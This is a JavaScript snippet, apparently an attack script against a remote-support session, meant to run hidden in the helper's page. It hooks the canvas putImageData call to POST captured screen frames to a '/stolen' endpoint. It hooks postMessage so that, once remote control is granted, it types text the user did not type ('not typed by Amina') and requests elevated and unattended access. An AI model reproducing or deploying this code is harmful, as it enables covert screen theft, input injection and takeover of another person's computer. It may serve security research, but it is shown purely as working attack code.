// Runs in the helper's page, behind the code of the session: takes the picture home, types under control, asks for more.
(() => {
  const put = OffscreenCanvasRenderingContext2D.prototype.putImageData;
  let taken = 0;
  OffscreenCanvasRenderingContext2D.prototype.putImageData = function (image, ...rest) {
    const whole = image.data.length > 100000;
    if (whole && taken++ < 5) fetch("/stolen", { method: "POST", body: image.data });
    return put.call(this, image, ...rest);
  };
  const order = (data) => self.onmessage(new MessageEvent("message", { data }));
  const tell = self.postMessage.bind(self);
  let level = null;
  self.postMessage = (told, ...rest) => {
    const now = told.change?.level;
    if (now !== undefined && now !== level) {
      level = now;
      if (level === "control") {
        order({ do: "act", events: [{ event: "text", text: "not typed by Amina" }], at: performance.now() });
        order({ do: "ask", level: "elevation" });
        order({ do: "ask", level: "unattended" });
      }
    }
    return tell(told, ...rest);
  };
})();
